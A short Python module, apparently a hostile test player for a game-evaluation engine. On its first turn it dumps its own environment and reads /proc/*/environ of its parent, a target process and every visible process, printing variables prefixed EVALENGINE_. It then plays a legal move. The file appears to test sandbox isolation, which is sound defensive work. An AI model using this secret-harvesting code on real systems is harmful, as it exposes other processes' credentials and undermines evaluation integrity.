"""Read the environment of the engine: its own, its parent's, and that of every process that is seen."""

import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
TARGET = json.load(open(os.path.join(HERE, "target.json")))


def attack():
    print(dict(os.environ), flush=True)
    try:
        seen = [name for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        seen = []
    for name in {*seen, "self", str(os.getppid()), str(TARGET["pid"])}:
        try:
            for line in open(f"/proc/{name}/environ", "rb").read().split(b"\0"):
                if line.startswith(b"EVALENGINE_"):
                    print(line, flush=True)
        except OSError:
            pass


def act(observation):
    if observation.turn == 0:
        attack()
        print("tried", flush=True)
    return observation.legal[0]
